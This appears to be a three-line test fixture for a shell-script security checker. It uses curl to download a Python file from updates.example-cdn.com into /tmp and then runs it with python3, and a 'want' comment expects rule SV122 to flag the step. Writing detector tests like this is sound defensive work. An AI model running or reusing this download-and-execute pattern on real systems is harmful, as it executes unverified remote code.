#!/bin/bash
curl -fsSL -o /tmp/update.py https://updates.example-cdn.com/u.py # want "SV122: .*downloads /tmp/update.py from updates.example-cdn.com and runs it"
python3 /tmp/update.py
